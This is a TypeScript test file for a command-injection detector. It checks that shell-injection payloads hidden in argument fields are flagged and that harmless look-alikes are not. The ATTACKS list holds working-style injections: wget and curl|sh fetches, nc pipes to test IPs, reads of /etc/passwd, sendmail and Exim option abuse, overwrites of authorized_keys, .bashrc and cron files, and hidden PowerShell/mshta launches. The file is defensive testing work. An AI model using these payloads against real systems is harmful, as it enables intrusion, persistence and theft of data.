import assert from "node:assert/strict";
import { commandInjectionDetector, type CommandInjectionOptions } from "./command_injection.ts";
import { mailerOptions, splicedSubstitution, tokenThenChain } from "./_cmd_splice.ts";

const AUTO: CommandInjectionOptions = { strict_keys: [], mode: "auto" };
const scan = (key: string, value: string, stage: "input" | "output" = "input") =>
  commandInjectionDetector.scan(value, { stage, path: `$.${key}`, key }, AUTO);
const isCmd = (w: string) =>
  ["rm", "cat", "wget", "nc", "touch", "id", "whoami", "uname", "ls"]
    .includes(w.toLowerCase());

// [key, value]: argument names that say nothing about a command line.
const ATTACKS: [string, string][] = [
  ["codec", "libx264 && wget http://203.0.113.9/a -O /tmp/a"],
  ["locale", "en_US.UTF-8 | nc 203.0.113.4 9000"],
  ["label", "v1.2.3||touch /tmp/owned"],
  ["resolution", "1920x1080;cat /etc/hostname"],
  ["title", "release-$(whoami)"],
  ["label", "build`uname -a`x"],
  ["input", "$(cat /etc/passwd)"],
  ["other", ">(nc 203.0.113.4 80)"],
  ["sender", "victim@example.org -C/etc/passwd -X/tmp/out.log"],
  ["to", '"x\\" -oQ/tmp -X/var/www/s.php y"@mail.example'],
  ["email", "me@corp.example -be ${run{/bin/sh -c id}}"],
  ["source", "--config=hooks.pre-clone=curl 203.0.113.2|sh"],
  ["options", "-c credential.helper='!sh -c id'"],
  ["remote_spec", "--config ui.ssh=\"sh -c 'id'\""],
  ["extra", "-c alias.st=!touch /tmp/x"],
  ["cmd_args", "--output /home/u/.ssh/authorized_keys"],
  ["save_as", "-O ~/.bashrc"],
  ["flags", "--log-file=/etc/cron.d/job"],
  ["name", "a & start /b cmd /c calc"],
  ["note", 'ok & start "" powershell -w hidden'],
  ["device", "dev1 & start mshta http://203.0.113.3/a.hta"],
];

const BENIGN: [string, string][] = [
  ["note", "Build fixed; tests green"],
  ["title", "Q3 report; final"],
  ["query", "error|warn"],
  ["filter", "status=open; sort=desc"],
  ["note", "TODO: fix; rm later"],
  ["expr", "$(MAKE)"],
  ["recipe", "$(MAKE) -C src all"],
  ["selector", "$(document)"],
  ["message", "run `ls` to see the files"],
  ["comment", "`whoami`"],
  ["to", "Alice Smith <alice@example.com>"],
  ["from", "Team - Sales <sales@example.com>"],
  ["cc", "bob@example.com, carol@example.com"],
  ["email", "jean-luc@example.fr"],
  ["notes", "git -c alias.st=status st"],
  ["notes", "--config=ui.username=alice"],
  ["text", "main.py | head"],
  ["notes", "curl -o ~/.bashrc.bak https://example.com/x"],
  ["args", "-o ./out/authorized.txt"],
  ["text", "Open the app & start calc module"],
  ["text", "Meeting notes & start times"],
];

Deno.test("commandInjectionDetector.scan() flags values shaped for a command line under any name", () => {
  for (const [key, value] of ATTACKS) {
    assert.ok(scan(key, value).length > 0, `missed ${key}=${value}`);
  }
});

Deno.test("commandInjectionDetector.scan() passes notes, make variables, display names and git aliases", () => {
  for (const [key, value] of BENIGN) {
    assert.deepEqual(scan(key, value), [], `false positive ${key}=${value}`);
  }
});

Deno.test("tokenThenChain() needs a lone token, a program and that program's arguments", () => {
  assert.equal(tokenThenChain("scale=2:1 ; rm -rf ~/x", isCmd), true);
  assert.equal(tokenThenChain("ls; cat /etc/hosts", isCmd), false); // the token is a program itself
  assert.equal(tokenThenChain("two words; cat /x", isCmd), false);
  assert.equal(tokenThenChain("a.txt; cat", isCmd), false);
});

Deno.test("splicedSubstitution() and mailerOptions() read the whole value's shape", () => {
  assert.equal(splicedSubstitution("<(wget -qO- x)", isCmd), true);
  assert.equal(splicedSubstitution("echo $(id)", isCmd), false); // spaces outside: prose or code
  assert.equal(mailerOptions("from", "a@b.co -X/tmp/x"), true);
  assert.equal(mailerOptions("body", "a@b.co -X/tmp/x"), false);
});

Deno.test("commandInjectionDetector.scan() keeps splice checks off tool output", () => {
  assert.deepEqual(scan("title", "feature/$(id>/tmp/x)", "output"), []);
});
